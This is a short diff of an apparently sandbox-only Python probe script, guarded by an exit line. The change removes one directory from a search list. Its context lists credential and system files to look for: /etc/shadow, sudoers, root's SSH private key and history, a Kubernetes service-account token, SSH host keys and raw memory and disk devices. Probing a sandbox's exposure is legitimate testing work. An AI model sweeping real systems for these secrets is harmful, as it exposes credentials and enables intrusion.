@@ -8,7 +8,7 @@ raise SystemExit("made for the sandbox: never run this file")
 
 # %% + first from _search
 import glob, os
-look("home", ["/root", "/home", "/work", os.path.expanduser("~root"), "/var", "/run", "/srv", "/boot"])
+look("home", ["/root", "/home", os.path.expanduser("~root"), "/var", "/run", "/srv", "/boot"])
 for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh/id_rsa", "/root/.bash_history",
              "/var/run/secrets/kubernetes.io/serviceaccount/token", "/dev/mem", "/dev/sda", "/dev/vda",
              "/proc/kcore", "/proc/kmsg", "/etc/ssh/ssh_host_rsa_key", "/etc/machine-id", "/etc/hostname"):
